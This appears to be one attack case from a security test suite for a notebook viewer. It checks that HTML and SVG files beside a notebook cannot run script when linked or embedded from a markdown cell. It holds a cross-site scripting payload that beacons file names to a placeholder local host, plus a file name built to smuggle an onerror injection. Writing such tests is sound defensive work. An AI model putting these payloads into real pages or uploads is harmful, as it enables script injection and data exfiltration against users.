"""Files beside the notebook with names and contents that are HTML.

Tries: to run a script from a file, by a link or a picture that names it.
Stopped by: Links to files are shown as typed, pictures stay pictures.
"""

PAYLOAD = (
    "document.documentElement.dataset.pwned=1;"
    "new Image().src='http://127.0.0.1:PORT/file_names'"
)
END = f'"><img src=x onerror="{PAYLOAD}">'


def attack(submission):
    page = f"<script>{PAYLOAD}</script>".encode()
    submission.files["evil.html"] = page
    submission.files["evil.svg"] = page
    submission.files[f"{END.replace('/', '_')}.txt"] = page
    submission.cell("why")["source"] = (
        "[open](evil.html) ![x](evil.svg) ![y](evil.html) <evil.html>"
    )
